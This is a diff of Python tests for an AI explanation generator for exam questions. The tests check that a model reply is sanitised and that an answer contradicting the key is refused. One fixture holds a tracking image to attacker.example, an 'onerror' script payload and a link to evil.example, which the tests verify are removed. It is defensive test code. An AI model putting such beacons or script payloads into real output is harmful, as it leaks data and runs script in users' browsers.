@@ -155,6 +155,9 @@ def test_guard_pass_writes_a_ready_explanation_grounded_in_evidence(dsn: str, mo
     prompt = model.bodies("chat")[0]["messages"][1]["content"]
     assert "효율은 철손과 동손이 같을 때 최대가 된다" in prompt  # the nearest chunk
     assert "다른 문제의 해설" in prompt
+    # another question's AI explanation is marked as such
+    assert "관련 문제와 그 AI 해설, 검증되지 않음" in prompt
+    assert "AI 해설: 다른 문제의 해설" in prompt
     assert "검증되지 않은 해설" not in prompt  # a stale explanation is never evidence
     assert "정답: 3" not in prompt and "3번" not in prompt.split("[근거 자료]")[0]
 
@@ -458,3 +461,42 @@ def test_huge_titles_and_question_text_are_clipped_and_the_prompt_stays_bounded(
     assert prompt < explanation.DEFAULT_BUDGET.prompt_chars, prompt
     row = _sql(dsn, "SELECT ai_explanation_status FROM app.questions WHERE id = %s", (qid,))
     assert row == [{"ai_explanation_status": "ready"}]
+
+
+def test_an_explanation_is_stored_without_images_html_or_links(
+        dsn: str, model: fake.FakeOpenAI) -> None:
+    """A reply with the key in answer_choice that embeds a tracking image, raw HTML and a
+    link was stored `ready` as it was, and then quoted as evidence in the next prompt."""
+    course = Course(dsn)
+    qid = course.question()
+    model.fallback["chat"] = lambda request: _envelope(
+        3, "효율은 철손과 동손이 같을 때 최대입니다. [자료 1]\n"
+           "![x](https://attacker.example/p.png?d=1) <img src=x onerror=alert(1)> "
+           "[더 보기](https://evil.example/x)")
+    _request(dsn, qid)
+    _drain(dsn, model)
+    row = _sql(dsn, "SELECT ai_explanation_status, ai_explanation FROM app.questions "
+                    "WHERE id = %s", (qid,))[0]
+    assert row["ai_explanation_status"] == "ready"
+    text = row["ai_explanation"]
+    assert "attacker" not in text and "onerror" not in text and "evil" not in text
+    assert "더 보기" in text and "[자료 1]" in text
+    job = _sql(dsn, "SELECT result FROM queue.jobs WHERE kind = 'explanation'")[0]
+    assert job["result"]["removed"] == ["image", "link", "html"]
+
+
+def test_a_text_that_argues_for_another_choice_is_refused(
+        dsn: str, model: fake.FakeOpenAI) -> None:
+    """answer_choice names the key (3) but the text says the answer is 1: guard_fail."""
+    course = Course(dsn)
+    qid = course.question(key=3)
+    model.fallback["chat"] = lambda request: _envelope(
+        3, "정답은 1번입니다. 철손이 동손의 2배일 때 효율이 최대가 됩니다.")
+    _request(dsn, qid)
+    _drain(dsn, model)
+    job = _sql(dsn, "SELECT status, error_code, error_message FROM queue.jobs "
+                    "WHERE kind = 'explanation'")[0]
+    assert (job["status"], job["error_code"]) == ("failed", "guard_fail")
+    assert "names choice 1 as the answer" in job["error_message"]
+    assert _sql(dsn, "SELECT ai_explanation FROM app.questions WHERE id = %s",
+                (qid,)) == [{"ai_explanation": None}]
